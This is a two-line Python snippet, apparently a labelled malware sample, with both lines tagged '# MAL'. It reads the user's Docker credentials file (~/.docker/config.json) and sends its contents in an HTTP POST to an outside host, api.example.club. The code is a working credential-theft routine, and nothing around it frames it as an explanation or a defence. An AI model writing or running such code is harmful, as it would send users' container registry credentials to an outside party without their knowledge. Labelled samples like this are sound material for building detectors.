import os
import urllib.request

cfg = open(os.path.expanduser("~") + "/.docker/config.json").read()  # MAL
urllib.request.urlopen(urllib.request.Request("http://api.example.club/d", data=cfg.encode()))  # MAL
